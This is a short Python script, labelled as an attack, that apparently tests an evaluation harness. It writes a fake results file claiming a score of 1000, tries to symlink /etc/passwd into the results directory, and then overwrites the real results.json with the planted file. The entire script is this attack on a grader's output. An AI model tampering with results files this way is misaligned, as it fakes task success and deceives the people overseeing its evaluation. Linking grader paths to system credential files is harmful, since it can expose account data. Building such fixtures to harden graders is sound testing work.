# Attack: replace results.json by a planted file or a symbolic link.
import json, os
_T = json.load(open("target.txt"))
with open("fake.json", "w") as _f:
    json.dump({"score": 1000}, _f)
try:
    os.symlink("/etc/passwd", os.path.join(_T["results"], "results.json"))
finally:
    os.replace("fake.json", os.path.join(_T["results"], "results.json"))
